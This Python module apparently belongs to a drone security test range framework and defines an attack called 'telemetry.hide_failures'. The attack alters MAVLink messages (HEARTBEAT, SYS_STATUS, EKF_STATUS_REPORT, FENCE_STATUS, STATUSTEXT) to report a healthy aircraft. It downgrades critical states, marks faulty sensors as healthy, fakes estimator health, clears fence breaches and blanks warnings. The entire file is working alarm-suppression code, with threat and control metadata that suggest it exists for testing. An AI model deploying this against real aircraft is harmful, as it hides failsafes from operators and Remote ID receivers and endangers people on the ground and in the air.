"""Hidden failures: reports of failsafes, faulty sensors and a bad estimator, made to look like a healthy aircraft's."""

from __future__ import annotations

from typing import Any, Final

from skyrange.attack.bases.mavlink.message_fields import put
from skyrange.attack.bases.mavlink.telemetry import VARIANCES, AlteredTelemetry
from skyrange.attack.declaration import attack
from skyrange.attack.presets import TELEMETRY_CONTROLS, rewrites_telemetry
from skyrange.codec.mavlink import dialect as mav
from skyrange.core.time import Time

HEALTHY_VARIANCE: Final = 0.1
"""Largest variance (normalised innovation) that is reported; ground stations warn from 0.5 (Mission Planner)."""
HEALTHY_FLAGS: Final = (
    mav.EKF_ATTITUDE | mav.EKF_VELOCITY_HORIZ | mav.EKF_VELOCITY_VERT | mav.EKF_POS_HORIZ_REL | mav.EKF_POS_HORIZ_ABS
    | mav.EKF_POS_VERT_ABS | mav.EKF_PRED_POS_HORIZ_REL | mav.EKF_PRED_POS_HORIZ_ABS
)  # fmt: skip
"""Flags of an estimator with a position."""


@attack(
    "telemetry.hide_failures",
    technique="T0878",
    surface=("gcs", "log", "autopilot", "rid_data"),
    persists="acts",
    effect="neither operator nor Remote ID receivers learn of a failsafe",
    threat=rewrites_telemetry("the messages that report failures"),
    controls=TELEMETRY_CONTROLS,
)
class HiddenFailures(AlteredTelemetry):
    """Hides failures in telemetry: status, sensor health, estimator, fence and warnings.

    All reports of failures are made harmless. Warnings and errors are blanked; their frames stay.
    """

    sees = ("HEARTBEAT", "SYS_STATUS", "EKF_STATUS_REPORT", "FENCE_STATUS", "STATUSTEXT")

    def alter(self, message: str, fields: Any, since_ns: Time) -> bool:
        """Report a healthy aircraft."""
        match message:
            case "HEARTBEAT" if fields["system_status"] >= mav.MAV_STATE_CRITICAL:
                armed = fields["base_mode"] & mav.MAV_MODE_FLAG_SAFETY_ARMED
                put(fields, "system_status", mav.MAV_STATE_ACTIVE if armed else mav.MAV_STATE_STANDBY)
            case "SYS_STATUS":
                fields["onboard_control_sensors_health"] |= fields["onboard_control_sensors_enabled"]
            case "EKF_STATUS_REPORT":
                put(fields, "flags", HEALTHY_FLAGS)
                for name in VARIANCES:
                    put(fields, name, min(float(fields[name]), HEALTHY_VARIANCE))
            case "FENCE_STATUS":
                put(fields, "breach_status", 0)
                put(fields, "breach_type", mav.FENCE_BREACH_NONE)
            case "STATUSTEXT" if fields["severity"] <= mav.MAV_SEVERITY_WARNING:
                put(fields, "severity", mav.MAV_SEVERITY_DEBUG)
                fields["text"] = b""
        return True
